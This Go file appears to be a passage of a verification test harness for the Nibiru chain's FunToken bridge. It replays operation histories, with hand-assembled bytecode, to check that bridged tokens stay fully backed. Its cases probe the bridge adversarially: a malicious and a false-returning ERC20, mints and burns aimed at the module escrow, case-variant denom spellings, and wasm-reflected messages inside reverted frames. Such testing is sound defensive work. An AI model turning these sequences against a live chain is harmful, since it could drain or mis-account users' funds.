package c06

// C06 — every FunToken unit is backed one-for-one on the other side.
//
// A case is a history of operations delivered through the real BeginBlock / DeliverTx /
// EndBlock / Commit on a fresh chain:
//
//	fund, meta         bank: mint an ordinary coin to an account / register denom metadata
//	deploy             EOA deploys an embedded test ERC20 (TestERC20 | TestERC20TransferWithFee |
//	                   TestERC20MaliciousTransfer) or the hand-assembled returns-false ERC20
//	create_coin        Cosmos tx MsgCreateFunToken{from_bank_denom}
//	create_erc20       Cosmos tx MsgCreateFunToken{from_erc20}
//	convert            Cosmos tx MsgConvertCoinToEvm (both births)
//	send_to_bank, send_to_evm, bank_msg_send
//	                   EVM tx calling the FunToken precompile, directly from an EOA or through the
//	                   forwarder contract (frames: plain, revert_top, inner_revert, swallow,
//	                   once_then_reverted), hex or bech32 recipient, optionally an unparsable
//	                   recipient or a low gas limit
//	erc20_transfer, erc20_burn
//	                   EVM tx calling the ERC20 itself (user transfers, donations to the module, burns)
//	tf_create, tf_mint, tf_burn, tf_change_admin
//	                   x/tokenfactory Cosmos txs: create a factory denom, the admin mints to / burns from ANY account
//	                   (incl. attempts on the EVM module account's escrow), hands the admin role on
//	bank_send, bank_multisend
//	                   plain x/bank Cosmos txs between accounts (incl. attempts to pay the EVM module account)
//	wasm_convert, wasm_create_coin, wasm_create_erc20, wasm_bank_send
//	                   bridge messages reached THROUGH THE WASM PRECOMPILE: the forwarder calls Wasm.execute on a reflect.wasm
//	                   contract it owns (account 7), which re-dispatches a Stargate MsgConvertCoinToEvm / MsgCreateFunToken /
//	                   bank MsgSend with itself as signer, in the middle of the EVM tx, in any frame, also paired (seq) with a
//	                   sendToBank / sendToEvm of the same tx
//	seq                two ops in ONE transaction: two calls made by the forwarder in one EVM tx, or two
//	                   messages of one signer in one Cosmos tx (both take effect or neither)
//
// Observables after EVERY transaction: accepted?; every FunToken mapping (ERC20 id, denom,
// IsMadeFromCoin) with ERC20 totalSupply, ERC20 balanceOf(EVM module), bank supply(denom), bank
// balance(EVM module, denom); and the ERC20 / bank balances of the fixed actor accounts for the
// token / denom the op named.  Addresses are canonicalised to small ids.

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/big"
	"os"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/NibiruChain/collections"
	wasmtypes "github.com/CosmWasm/wasmd/x/wasm/types"
	"github.com/cosmos/gogoproto/proto"
	sdkmath "cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cosmos/cosmos-sdk/crypto/keys/secp256k1"
	sdk "github.com/cosmos/cosmos-sdk/types"
	bank "github.com/cosmos/cosmos-sdk/x/bank/types"
	tftypes "github.com/NibiruChain/nibiru/v2/x/tokenfactory/types"
	gethcommon "github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/vm"
	"github.com/ethereum/go-ethereum/crypto"

	. "verifharness/hx"

	"github.com/NibiruChain/nibiru/v2/eth"
	"github.com/NibiruChain/nibiru/v2/x/evm"
	"github.com/NibiruChain/nibiru/v2/x/evm/embeds"
	"github.com/NibiruChain/nibiru/v2/x/evm/evmtest"
	"github.com/NibiruChain/nibiru/v2/x/evm/precompile"
	"github.com/NibiruChain/nibiru/v2/x/evm/statedb"
)

// ---------------------------------------------------------------- input / output shapes

type denomRef struct {
	// "c": ordinary coin ucoin<N>; "e": erc20/<address of token N>; "g": the gas coin unibi;
	// "t": tokenfactory denom tf/<account N/10>/sub<N%10>; "i": IBC voucher ibc/<SHA256("transfer/channel-N/uatom")>
	K string `json:"k"`
	N int    `json:"n"`
	// Sp: SPELLING of that name. 0 = the string the chain itself uses (voucher hash in upper-case hex, EIP55 address);
	// 1.. = other strings that differ from it only by letter case (see spell): different bank denoms for the chain.
	Sp int `json:"sp,omitempty"`
}

const maxSp = 3

// spell: the sp-th spelling of a denom string. 1: all lower case (all upper case when the string has no upper-case
// letter); 2: all upper case (first letter capitalised when …); 3: the letters after the last '/' in alternating case.
func spell(s string, sp int) string {
	lower, upper := strings.ToLower(s), strings.ToUpper(s)
	switch sp {
	case 0:
		return s
	case 1:
		if s != lower {
			return lower
		}
		return upper
	case 2:
		if s != lower {
			return upper
		}
		return strings.ToUpper(s[:1]) + s[1:]
	}
	i := strings.LastIndex(s, "/") + 1
	b := []byte(lower)
	k := 0
	for j := i; j < len(b); j++ {
		if b[j] >= 'a' && b[j] <= 'z' {
			if k%2 == 1 {
				b[j] -= 'a' - 'A'
			}
			k++
		}
	}
	return string(b)
}

type c06Op struct {
	K     string    `json:"k"`
	A     int       `json:"a"`  // acting account: fund target / deployer / sender / precompile caller
	To    int       `json:"to"` // recipient
	T     int       `json:"t"`  // token id
	D     *denomRef `json:"d,omitempty"`
	X     string    `json:"x,omitempty"`      // amount (decimal)
	Kind  string    `json:"kind,omitempty"`   // deploy: std | fee | heavy
	Fmt   string    `json:"fmt,omitempty"`    // recipient spelling: hex | bech32
	Frame string    `json:"frame,omitempty"`  // "" (direct from the EOA) | plain | revert_top | inner_revert | swallow | once_then_reverted
	BadTo bool      `json:"bad_to,omitempty"` // unparsable recipient string
	Gas   uint64    `json:"gas,omitempty"`    // explicit (low) gas limit
	Ops   []c06Op   `json:"ops,omitempty"`    // seq: two ops in ONE transaction (both or nothing)
	To2   int       `json:"to2,omitempty"`    // bank_multisend: second output
	X2    string    `json:"x2,omitempty"`
	// CallGas: the forwarder hands the precompile / ERC20 exactly this gas stipend (frame "plain"); the tx itself has ample gas
	CallGas uint64 `json:"call_gas,omitempty"`
}

type mapObs struct {
	Tok  int      `json:"tok"`
	D    denomRef `json:"d"`
	Coin bool     `json:"coin"`
	ESup string   `json:"esup"` // ERC20 totalSupply
	EMod string   `json:"emod"` // ERC20 balanceOf(EVM module)
	BSup string   `json:"bsup"` // bank supply of the denom
	BMod string   `json:"bmod"` // bank balance of the EVM module for the denom
}

type mapRef struct {
	Tok  int      `json:"tok"`
	D    denomRef `json:"d"`
	Coin bool     `json:"coin"`
}

// one lookup through a real index of the FunTokens collection and what it returned
type lkDen struct {
	D denomRef `json:"d"` // FunTokens.Indexes.BankDenom.ExactMatch(<this spelling>)
	M []mapRef `json:"m"`
}
type lkTok struct {
	T int      `json:"t"` // FunTokens.Indexes.ERC20Addr.ExactMatch(<address of token T>)
	M []mapRef `json:"m"`
}

type stepObs struct {
	Ok   bool      `json:"ok"`
	Fail bool      `json:"fail"` // tx not accepted (used with Gas to recognise out-of-gas outcomes)
	Reg  []mapObs  `json:"reg"`
	TT   int       `json:"tt"` // touched token id or -1
	TD   *denomRef `json:"td"` // touched denom or null
	EBal []string  `json:"ebal"`
	BBal []string  `json:"bbal"`
	// after every CreateFunToken (accepted or not): the registry as the two indexes answer, under every spelling of the
	// named denom and every registered denom / for every known contract
	LkD []lkDen `json:"lkd,omitempty"`
	LkT []lkTok `json:"lkt,omitempty"`
}

// forwarder runtime (assembled by hand, see /verif/coq/C06/README.md):
// calldata = mode(1) ‖ target(20) ‖ payload.
//
//	0 call target(payload), revert iff it failed     1 call target(payload), then REVERT
//	2 self-call with mode 1, ignore the result, STOP  3 call target(payload), ignore failure, STOP
//	5 call target(payload) (must succeed), then self-call with mode 1, STOP
//	6 calldata = 6 ‖ target1 ‖ len1(2) ‖ payload1 ‖ target2 ‖ payload2: both calls must succeed, else REVERT
//	7 calldata = 7 ‖ target ‖ gas(4) ‖ payload: CALL with exactly that gas stipend, revert iff it failed
var fwdInit = mustHex("610106600e6000396101066000f3" +
	"60003560f81c8060021461006a5780600514610085578060061461009757806007146100df5761002d61004a565b8160011461004257816003146100" +
	"4857610048575b60006000fd5b005b6015360380601560003760006000826000600060013560601c5af1905090565b36600060003760016000536000" +
	"60003660006000305af15050005b61008d61004a565b156100425761006a565b60153560f01c80601760003760006000826000600060013560601c5a" +
	"f11561004257601701806014018036038082600037600060008260006000873560601c5af11561004257005b60193603806019600037600060008260" +
	"00600060013560601c60153560e01cf1156100425700")

func mustHex(s string) []byte {
	b, err := hex.DecodeString(s)
	if err != nil {
		panic(err)
	}
	return b
}

// falseTokenInit: hand-assembled ERC20 whose transfer MOVES the tokens but returns false
// (name/symbol "FLS", decimals 18, totalSupply 1000 minted to the deployer; listing in coq/C06/README.md).
var falseTokenInit = mustHex("6103e8335560b6601160003960b66000f3" +
	"60003560e01c806370a082311461004e578063a9059cbb1461009157806318160ddd1461005b578063313ce5671461006757806306fdde0314610072" +
	"57806395d89b4114610072575b60006000fd5b6004355460005260206000f35b6103e860005260206000f35b601260005260206000f35b6020600052" +
	"60036020526046604053604c604153605360425360606000f35b6024353354818110610048578190033355600435805482019055600060005260206000f3")

var frameMode = map[string]byte{"plain": 0, "revert_top": 1, "inner_revert": 2, "swallow": 3, "once_then_reverted": 5}

// ---------------------------------------------------------------- world

type world struct {
	t     *testing.T
	c     *Chain
	eoa   [2]evmtest.EthPrivKeyAcc // ids 1, 2
	cos   [2]*secp256k1.PrivKey    // ids 3, 4
	fwd   gethcommon.Address       // id 5
	cold  gethcommon.Address       // id 6
	wasm  sdk.AccAddress           // id 7: reflect.wasm instance owned by the forwarder (32-byte address, no EVM account)
	toks  []gethcommon.Address     // token id -> address
	inBlk int
	// every denom string an op of this case has spelled so far (index lookups are made under each of them)
	spelled []string
	// unibi supply that belongs to the rest of genesis (validators, pools, …), outside the modelled accounts
	gasOutside sdkmath.Int
}

const setupFund = int64(1e17)

var gasPrice = big.NewInt(1_000_000_000_000)

func newWorld(t *testing.T) *world {
	w := &world{t: t, c: NewChain(nil)}
	c := w.c
	c.BeginBlock(5 * time.Second)
	for i := range w.eoa {
		w.eoa[i] = evmtest.NewEthPrivAcc()
		if err := c.Fund(w.eoa[i].NibiruAddr, Unibi(setupFund)); err != nil {
			t.Fatal(err)
		}
	}
	for i := range w.cos {
		w.cos[i] = secp256k1.GenPrivKey()
		if err := c.Fund(sdk.AccAddress(w.cos[i].PubKey().Address()), Unibi(setupFund)); err != nil {
			t.Fatal(err)
		}
	}
	w.cold = gethcommon.HexToAddress("0x00000000000000000000000000000000C01dC01d")
	msg, err := c.SignEth(w.eoa[0], &evm.EvmTxArgs{Nonce: 0, GasLimit: 500_000, GasPrice: gasPrice, Input: fwdInit})
	if err != nil {
		t.Fatal(err)
	}
	if r := c.DeliverEth(msg); r.Code != 0 || vmError(r) != "" {
		t.Fatalf("deploy forwarder: %s %s", r.Log, vmError(r))
	}
	w.fwd = crypto.CreateAddress(w.eoa[0].EthAddr, 0)
	c.EndBlock()
	c.BeginBlock(5 * time.Second)
	w.gasOutside = c.App.BankKeeper.GetSupply(c.Ctx(), evm.EVMBankDenom).Amount.Sub(sdkmath.NewInt(4 * setupFund))
	return w
}

func repoDir() string {
	if d := os.Getenv("VERIF_REPO"); d != "" {
		return d
	}
	return "/repo"
}

var reflectCode []byte

// setupWasm stores reflect.wasm and instantiates it with the forwarder contract as owner (only the owner may reflect).
func (w *world) setupWasm() {
	c := w.c
	if reflectCode == nil {
		code, err := os.ReadFile(repoDir() + "/x/devgas/v1/keeper/testdata/reflect.wasm")
		if err != nil {
			w.t.Fatal(err)
		}
		reflectCode = code
	}
	ctx := c.Ctx()
	store := &wasmtypes.MsgStoreCode{Sender: w.eoa[0].NibiruAddr.String(), WASMByteCode: reflectCode}
	rsp, err := c.App.MsgServiceRouter().Handler(store)(ctx, store)
	if err != nil {
		w.t.Fatal(err)
	}
	var sr wasmtypes.MsgStoreCodeResponse
	if err := proto.Unmarshal(rsp.Data, &sr); err != nil {
		w.t.Fatal(err)
	}
	inst := &wasmtypes.MsgInstantiateContract{Sender: eth.EthAddrToNibiruAddr(w.fwd).String(), CodeID: sr.CodeID, Label: "reflect", Msg: []byte(`{}`)}
	rsp, err = c.App.MsgServiceRouter().Handler(inst)(ctx, inst)
	if err != nil {
		w.t.Fatal(err)
	}
	var ir wasmtypes.MsgInstantiateContractResponse
	if err := proto.Unmarshal(rsp.Data, &ir); err != nil {
		w.t.Fatal(err)
	}
	w.wasm = sdk.MustAccAddressFromBech32(ir.Address)
}

func usesWasm(ops []c06Op) bool {
	for _, op := range ops {
		for _, sub := range flatOps(op) {
			if strings.HasPrefix(sub.K, "wasm_") {
				return true
			}
		}
	}
	return false
}

func (w *world) tokAddr(t int) gethcommon.Address {
	if t >= 0 && t < len(w.toks) {
		return w.toks[t]
	}
	return gethcommon.BigToAddress(big.NewInt(int64(0xdead0000) + int64(t)))
}

func (w *world) addr(id int) gethcommon.Address {
	switch {
	case id == 0:
		return evm.EVM_MODULE_ADDRESS
	case id == 1 || id == 2:
		return w.eoa[id-1].EthAddr
	case id == 3 || id == 4:
		return eth.NibiruAddrToEthAddr(sdk.AccAddress(w.cos[id-3].PubKey().Address()))
	case id == 5:
		return w.fwd
	case id == 6:
		return w.cold
	case id == 7:
		return gethcommon.BytesToAddress(w.nibi(7)) // not an EVM account; only so that balanceOf has something to ask
	case id >= 100:
		return w.tokAddr(id - 100)
	}
	return gethcommon.BigToAddress(big.NewInt(int64(0xbeef0000) + int64(id)))
}

func (w *world) nibi(id int) sdk.AccAddress {
	if id == 7 {
		if w.wasm != nil {
			return w.wasm
		}
		return sdk.AccAddress(append(make([]byte, 12), gethcommon.HexToAddress("0x00000000000000000000000000000000000a57a5").Bytes()...))
	}
	return eth.EthAddrToNibiruAddr(w.addr(id))
}

func (w *world) denom(d *denomRef) string {
	if d == nil {
		return "unone"
	}
	return spellings(w.chainDenom(d))[d.Sp%(maxSp+1)]
}

// spellings: the maxSp+1 spellings of a chain denom, PAIRWISE DISTINCT strings.  An EIP55 address without upper-case
// letters (or one that happens to alternate) makes spell collide with the chain's own string (probability (13/16)^40 per
// address); such a candidate gets its leading characters upper-cased until it is a string of its own.
func spellings(chain string) [maxSp + 1]string {
	var out [maxSp + 1]string
	for sp := 0; sp <= maxSp; sp++ {
		cand := spell(chain, sp)
		for n := 1; n <= len(cand); n++ {
			clash := false
			for q := 0; q < sp; q++ {
				if out[q] == cand {
					clash = true
				}
			}
			if !clash {
				break
			}
			cand = strings.ToUpper(cand[:n]) + cand[n:]
		}
		out[sp] = cand
	}
	return out
}

// chainDenom: the name in the spelling the chain itself uses
func (w *world) chainDenom(d *denomRef) string {
	if d.K == "e" {
		return "erc20/" + w.tokAddr(d.N).String()
	}
	if d.K == "g" {
		return evm.EVMBankDenom
	}
	if d.K == "t" {
		return tftypes.TFDenom{Creator: w.nibi(d.N / 10).String(), Subdenom: fmt.Sprintf("sub%d", d.N%10)}.Denom().String()
	}
	if d.K == "i" {
		h := sha256.Sum256([]byte(fmt.Sprintf("transfer/channel-%d/uatom", d.N)))
		return "ibc/" + strings.ToUpper(hex.EncodeToString(h[:]))
	}
	return fmt.Sprintf("ucoin%d", d.N)
}

func (w *world) tokID(a gethcommon.Address) int {
	for i, x := range w.toks {
		if x == a {
			return i
		}
	}
	return -1
}

// denomRefOf: the exact inverse of denom over the names and spellings a case can use (strings are compared byte for
// byte: a registry entry under another spelling of a name is reported as that other spelling).
func (w *world) denomRefOf(s string) denomRef {
	try := func(k string, n int) (denomRef, bool) {
		for sp := 0; sp <= maxSp; sp++ {
			if r := (denomRef{K: k, N: n, Sp: sp}); w.denom(&r) == s {
				return r, true
			}
		}
		return denomRef{}, false
	}
	low := strings.ToLower(s)
	switch {
	case low == evm.EVMBankDenom:
		if r, ok := try("g", 0); ok {
			return r
		}
	case strings.HasPrefix(low, "ucoin"):
		if n, err := strconv.Atoi(s[5:]); err == nil {
			if r, ok := try("c", n); ok {
				return r
			}
		}
	case strings.HasPrefix(low, "tf/"):
		for id := 1; id <= 6; id++ {
			for k := 0; k < 10; k++ {
				if r, ok := try("t", id*10+k); ok {
					return r
				}
			}
		}
	case strings.HasPrefix(low, "ibc/"):
		for n := 0; n < 8; n++ {
			if r, ok := try("i", n); ok {
				return r
			}
		}
	case strings.HasPrefix(low, "erc20/"):
		a := gethcommon.HexToAddress(s[6:])
		if id := w.tokID(a); id >= 0 {
			if r, ok := try("e", id); ok {
				return r
			}
		}
		if v := new(big.Int).Sub(new(big.Int).SetBytes(a.Bytes()), big.NewInt(0xdead0000)); v.Sign() >= 0 && v.IsInt64() && v.Int64() < 1000 {
			if r, ok := try("e", int(v.Int64())); ok {
				return r
			}
		}
	}
	return denomRef{K: "c", N: 999}
}

func vmError(r abci.ResponseDeliverTx) string {
	for _, a := range EventAttrs(r.Events, "eth.evm.v1.EventEthereumTx") {
		if v := strings.Trim(a["vm_error"], `"`); v != "" {
			return v
		}
	}
	return ""
}

func (w *world) nonce(i int) uint64 {
	acc := w.c.App.AccountKeeper.GetAccount(w.c.Ctx(), w.eoa[i].NibiruAddr)
	if acc == nil {
		return 0
	}
	return acc.GetSequence()
}

// ethTx sends one EVM tx from EOA index i; accepted = code 0 and no VM error.
func (w *world) ethTx(i int, to *gethcommon.Address, input []byte, gas uint64) bool {
	if gas == 0 {
		gas = 3_000_000
	}
	msg, err := w.c.SignEth(w.eoa[i], &evm.EvmTxArgs{Nonce: w.nonce(i), GasLimit: gas, GasPrice: gasPrice, To: to, Input: input})
	if err != nil {
		panic(err)
	}
	r := w.c.DeliverEth(msg)
	return r.Code == 0 && vmError(r) == ""
}

func (w *world) cosmosTx(i int, msg sdk.Msg) bool {
	r := w.c.DeliverCosmos(w.cos[i], 8_000_000, Unibi(1_000_000), msg)
	return r.Code == 0
}

func parseAmt(s string) (*big.Int, bool) {
	if s == "" {
		return big.NewInt(0), true
	}
	return new(big.Int).SetString(s, 10)
}

func (w *world) toStr(op c06Op) string {
	if op.BadTo {
		if op.Fmt == "hex" {
			return "0x12345"
		}
		return "nibi1notanaddress"
	}
	if op.Fmt == "bech32" {
		return w.nibi(op.To).String()
	}
	return w.addr(op.To).Hex()
}

// evmOp sends (target, payload) directly from the EOA named by op.A or through the forwarder.
func (w *world) evmOp(op c06Op, target gethcommon.Address, payload []byte) bool {
	if target == precompile.PrecompileAddr_Wasm {
		if op.Frame == "" || op.A != 5 || op.CallGas > 0 {
			return false // the reflect contract obeys its owner, the forwarder, only
		}
		if op.Gas == 0 {
			op.Gas = 6_000_000
		}
	}
	if op.Frame == "" {
		if op.A != 1 && op.A != 2 {
			return false
		}
		return w.ethTx(op.A-1, &target, payload, op.Gas)
	}
	mode, ok := frameMode[op.Frame]
	if !ok || op.A != 5 {
		return false
	}
	data := append([]byte{mode}, target.Bytes()...)
	if op.CallGas > 0 {
		if op.Frame != "plain" || op.CallGas > 0xffffffff {
			return false
		}
		data[0] = 7
		g := op.CallGas
		data = append(data, byte(g>>24), byte(g>>16), byte(g>>8), byte(g))
	}
	data = append(data, payload...)
	return w.ethTx(0, &w.fwd, data, op.Gas)
}

// cosmosMsg builds the sdk.Msg of a Cosmos-side op (nil for other kinds).
func (w *world) cosmosMsg(op c06Op) sdk.Msg {
	switch op.K {
	case "create_coin":
		return &evm.MsgCreateFunToken{FromBankDenom: w.denom(op.D), Sender: w.nibi(op.A).String()}
	case "create_erc20":
		return &evm.MsgCreateFunToken{FromErc20: &eth.EIP55Addr{Address: w.tokAddr(op.T)}, Sender: w.nibi(op.A).String()}
	case "tf_create":
		if op.D == nil || op.D.K != "t" || op.D.Sp != 0 || op.D.N/10 != op.A {
			return nil
		}
		return &tftypes.MsgCreateDenom{Sender: w.nibi(op.A).String(), Subdenom: fmt.Sprintf("sub%d", op.D.N%10)}
	case "tf_mint", "tf_burn", "bank_send", "bank_multisend":
		x, ok := parseAmt(op.X)
		if !ok || op.D == nil {
			return nil
		}
		coin := sdk.Coin{Denom: w.denom(op.D), Amount: sdkmath.NewIntFromBigInt(x)}
		switch op.K {
		case "tf_mint":
			return &tftypes.MsgMint{Sender: w.nibi(op.A).String(), Coin: coin, MintTo: w.nibi(op.To).String()}
		case "tf_burn":
			return &tftypes.MsgBurn{Sender: w.nibi(op.A).String(), Coin: coin, BurnFrom: w.nibi(op.To).String()}
		case "bank_send":
			return &bank.MsgSend{FromAddress: w.nibi(op.A).String(), ToAddress: w.nibi(op.To).String(), Amount: sdk.Coins{coin}}
		}
		x2, ok2 := parseAmt(op.X2)
		if !ok2 || x.Sign() <= 0 || x2.Sign() <= 0 {
			return nil
		}
		coin2 := sdk.Coin{Denom: coin.Denom, Amount: sdkmath.NewIntFromBigInt(x2)}
		return &bank.MsgMultiSend{
			Inputs:  []bank.Input{{Address: w.nibi(op.A).String(), Coins: sdk.Coins{coin.Add(coin2)}}},
			Outputs: []bank.Output{{Address: w.nibi(op.To).String(), Coins: sdk.Coins{coin}}, {Address: w.nibi(op.To2).String(), Coins: sdk.Coins{coin2}}},
		}
	case "tf_change_admin":
		if op.D == nil {
			return nil
		}
		return &tftypes.MsgChangeAdmin{Sender: w.nibi(op.A).String(), Denom: w.denom(op.D), NewAdmin: w.nibi(op.To).String()}
	case "convert":
		x, ok := parseAmt(op.X)
		if !ok {
			return nil
		}
		return &evm.MsgConvertCoinToEvm{
			Sender: w.nibi(op.A).String(), BankCoin: sdk.Coin{Denom: w.denom(op.D), Amount: sdkmath.NewIntFromBigInt(x)},
			ToEthAddr: eth.EIP55Addr{Address: w.addr(op.To)},
		}
	}
	return nil
}

// encode builds (target, calldata) of an EVM-side op.
func (w *world) encode(op c06Op) (gethcommon.Address, []byte, bool) {
	x, okx := parseAmt(op.X)
	if !okx || x.Sign() < 0 {
		return gethcommon.Address{}, nil, false
	}
	abiFT := embeds.SmartContract_FunToken.ABI
	abiERC := embeds.SmartContract_ERC20MinterWithMetadataUpdates.ABI
	var in []byte
	var err error
	target := precompile.PrecompileAddr_FunToken
	switch op.K {
	case "send_to_bank":
		in, err = abiFT.Pack("sendToBank", w.tokAddr(op.T), x, w.toStr(op))
	case "send_to_evm":
		in, err = abiFT.Pack("sendToEvm", w.denom(op.D), x, w.toStr(op))
	case "bank_msg_send":
		in, err = abiFT.Pack("bankMsgSend", w.toStr(op), w.denom(op.D), x)
	case "erc20_transfer":
		target = w.tokAddr(op.T)
		in, err = abiERC.Pack("transfer", w.addr(op.To), x)
	case "erc20_burn":
		target = w.tokAddr(op.T)
		in, err = abiERC.Pack("burn", x)
	case "wasm_convert", "wasm_create_coin", "wasm_create_erc20", "wasm_bank_send":
		if w.wasm == nil {
			return target, nil, false
		}
		self := w.wasm.String()
		var m sdk.Msg
		switch op.K {
		case "wasm_convert":
			m = &evm.MsgConvertCoinToEvm{Sender: self, BankCoin: sdk.Coin{Denom: w.denom(op.D), Amount: sdkmath.NewIntFromBigInt(x)},
				ToEthAddr: eth.EIP55Addr{Address: w.addr(op.To)}}
		case "wasm_create_coin":
			m = &evm.MsgCreateFunToken{FromBankDenom: w.denom(op.D), Sender: self}
		case "wasm_create_erc20":
			m = &evm.MsgCreateFunToken{FromErc20: &eth.EIP55Addr{Address: w.tokAddr(op.T)}, Sender: self}
		default:
			m = &bank.MsgSend{FromAddress: self, ToAddress: w.nibi(op.To).String(),
				Amount: sdk.Coins{sdk.Coin{Denom: w.denom(op.D), Amount: sdkmath.NewIntFromBigInt(x)}}}
		}
		bz, merr := proto.Marshal(m)
		if merr != nil {
			panic(merr)
		}
		payload := fmt.Sprintf(`{"reflect_msg":{"msgs":[{"stargate":{"type_url":"%s","value":"%s"}}]}}`, sdk.MsgTypeURL(m), base64.StdEncoding.EncodeToString(bz))
		target = precompile.PrecompileAddr_Wasm
		in, err = embeds.SmartContract_Wasm.ABI.Pack("execute", self, []byte(payload), []precompile.WasmBankCoin{})
	default:
		return target, nil, false
	}
	if err != nil {
		panic(err)
	}
	return target, in, true
}

func (w *world) run(op c06Op) bool {
	c := w.c
	x, okx := parseAmt(op.X)
	if !okx {
		return false
	}
	switch op.K {
	case "fund":
		if op.D == nil || (op.D.K == "e" && op.D.Sp == 0) || x.Sign() < 0 {
			return false
		}
		coins := sdk.NewCoins(sdk.NewCoin(w.denom(op.D), sdkmath.NewIntFromBigInt(x)))
		if op.A == 0 {
			return c.App.BankKeeper.MintCoins(c.Ctx(), evm.ModuleName, coins) == nil
		}
		return c.Fund(w.nibi(op.A), coins) == nil
	case "meta":
		if op.D == nil || (op.D.K == "e" && op.D.Sp == 0) {
			return false
		}
		d := w.denom(op.D)
		if op.D.K == "g" && op.D.Sp == 0 {
			c.App.BankKeeper.SetDenomMetaData(c.Ctx(), bank.Metadata{
				DenomUnits: []*bank.DenomUnit{{Denom: d, Exponent: 0}, {Denom: "NIBI", Exponent: 6}}, Base: d, Display: "NIBI", Name: "NIBI", Symbol: "NIBI",
			})
			return true
		}
		c.App.BankKeeper.SetDenomMetaData(c.Ctx(), bank.Metadata{
			DenomUnits: []*bank.DenomUnit{{Denom: d, Exponent: 0}}, Base: d, Display: d, Name: d, Symbol: strings.ToUpper(d),
		})
		return true
	case "deploy":
		if op.A != 1 && op.A != 2 {
			return false
		}
		var code []byte
		var err error
		switch op.Kind {
		case "std":
			code = embeds.SmartContract_TestERC20.Bytecode
		case "fee":
			sc := embeds.SmartContract_TestERC20TransferWithFee
			var args []byte
			args, err = sc.ABI.Pack("", "FeeToken", "FEE")
			code = append(append([]byte{}, sc.Bytecode...), args...)
		case "heavy":
			sc := embeds.SmartContract_TestERC20MaliciousTransfer
			var args []byte
			args, err = sc.ABI.Pack("", "Heavy", "HVY", uint8(18))
			code = append(append([]byte{}, sc.Bytecode...), args...)
		case "false":
			code = falseTokenInit
		default:
			return false
		}
		if err != nil {
			panic(err)
		}
		n := w.nonce(op.A - 1)
		if !w.ethTx(op.A-1, nil, code, 0) {
			return false
		}
		w.toks = append(w.toks, crypto.CreateAddress(w.eoa[op.A-1].EthAddr, n))
		return true
	case "create_coin", "create_erc20", "convert", "tf_create", "tf_mint", "tf_burn", "tf_change_admin", "bank_send", "bank_multisend":
		if op.A != 3 && op.A != 4 {
			return false
		}
		m := w.cosmosMsg(op)
		if m == nil {
			return false
		}
		return w.cosmosTx(op.A-3, m)
	case "send_to_bank", "send_to_evm", "bank_msg_send", "erc20_transfer", "erc20_burn",
		"wasm_convert", "wasm_create_coin", "wasm_create_erc20", "wasm_bank_send":
		if strings.HasPrefix(op.K, "wasm_") && op.D == nil && op.K != "wasm_create_erc20" {
			return false
		}
		target, in, ok := w.encode(op)
		if !ok {
			return false
		}
		return w.evmOp(op, target, in)
	case "seq":
		if len(op.Ops) != 2 {
			return false
		}
		a, b := op.Ops[0], op.Ops[1]
		if ma, mb := w.cosmosMsg(a), w.cosmosMsg(b); ma != nil && mb != nil {
			if a.A != b.A || (a.A != 3 && a.A != 4) {
				return false
			}
			r := w.c.DeliverCosmos(w.cos[a.A-3], 12_000_000, Unibi(2_000_000), ma, mb)
			return r.Code == 0
		}
		t1, p1, ok1 := w.encode(a)
		t2, p2, ok2 := w.encode(b)
		if !ok1 || !ok2 || a.A != 5 || b.A != 5 || len(p1) > 0xffff {
			return false
		}
		data := append([]byte{6}, t1.Bytes()...)
		data = append(data, byte(len(p1)>>8), byte(len(p1)))
		data = append(data, p1...)
		data = append(data, t2.Bytes()...)
		data = append(data, p2...)
		gas := uint64(0)
		if t1 == precompile.PrecompileAddr_Wasm || t2 == precompile.PrecompileAddr_Wasm {
			gas = 8_000_000
		}
		return w.ethTx(0, &w.fwd, data, gas)
	}
	return false
}

// ---------------------------------------------------------------- observation

func (w *world) queryEnv() (sdk.Context, *vm.EVM) {
	ctx, _ := w.c.Ctx().CacheContext()
	ctx = ctx.WithGasMeter(sdk.NewInfiniteGasMeter())
	k := w.c.App.EvmKeeper
	sdb := statedb.New(ctx, k, statedb.NewEmptyTxConfig(gethcommon.BytesToHash(ctx.HeaderHash())))
	return ctx, k.NewEVM(ctx, evmtest.MOCK_GETH_MESSAGE, k.GetEVMConfig(ctx), evm.NewNoOpTracer(), sdb)
}

func bigStr(b *big.Int, err error) string {
	if err != nil || b == nil {
		return "-1"
	}
	return b.String()
}

var touchActors = []int{0, 1, 2, 3, 4, 5, 6, 7}

func (w *world) observe(op c06Op, ok bool) stepObs {
	ctx, evmObj := w.queryEnv()
	k := w.c.App.EvmKeeper
	bk := w.c.App.BankKeeper
	erc := k.ERC20()
	abiERC := embeds.SmartContract_ERC20MinterWithMetadataUpdates.ABI
	o := stepObs{Ok: ok, Fail: !ok, Reg: []mapObs{}, TT: -1, EBal: []string{}, BBal: []string{}}
	prim := k.FunTokens.Iterate(ctx, collections.Range[[]byte]{}).Values()
	// contracts deployed by the module get the next token ids, in address order when several are new
	var fresh []gethcommon.Address
	for _, ft := range prim {
		if w.tokID(ft.Erc20Addr.Address) < 0 && !containsAddr(fresh, ft.Erc20Addr.Address) {
			fresh = append(fresh, ft.Erc20Addr.Address)
		}
	}
	sort.Slice(fresh, func(i, j int) bool { return fresh[i].Hex() < fresh[j].Hex() })
	w.toks = append(w.toks, fresh...)
	// the registry is read through the REAL indexes: by bank denom under every string spelled so far and every
	// registered denom, by ERC20 address for every known contract; then the primary map (entries the indexes miss)
	byDenom := func(d string) []evm.FunToken {
		return k.FunTokens.Collect(ctx, k.FunTokens.Indexes.BankDenom.ExactMatch(ctx, d))
	}
	byTok := func(a gethcommon.Address) []evm.FunToken {
		return k.FunTokens.Collect(ctx, k.FunTokens.Indexes.ERC20Addr.ExactMatch(ctx, a))
	}
	var fts []evm.FunToken
	seenFt := map[string]bool{}
	add := func(xs []evm.FunToken) {
		for _, ft := range xs {
			key := fmt.Sprintf("%s|%s|%v", ft.Erc20Addr.Address.Hex(), ft.BankDenom, ft.IsMadeFromCoin)
			if !seenFt[key] {
				seenFt[key] = true
				fts = append(fts, ft)
			}
		}
	}
	univ := append([]string{}, w.spelled...)
	for _, ft := range prim {
		univ = append(univ, ft.BankDenom)
	}
	seenD := map[string]bool{}
	for _, d := range univ {
		if !seenD[d] {
			seenD[d] = true
			add(byDenom(d))
		}
	}
	for _, a := range w.toks {
		add(byTok(a))
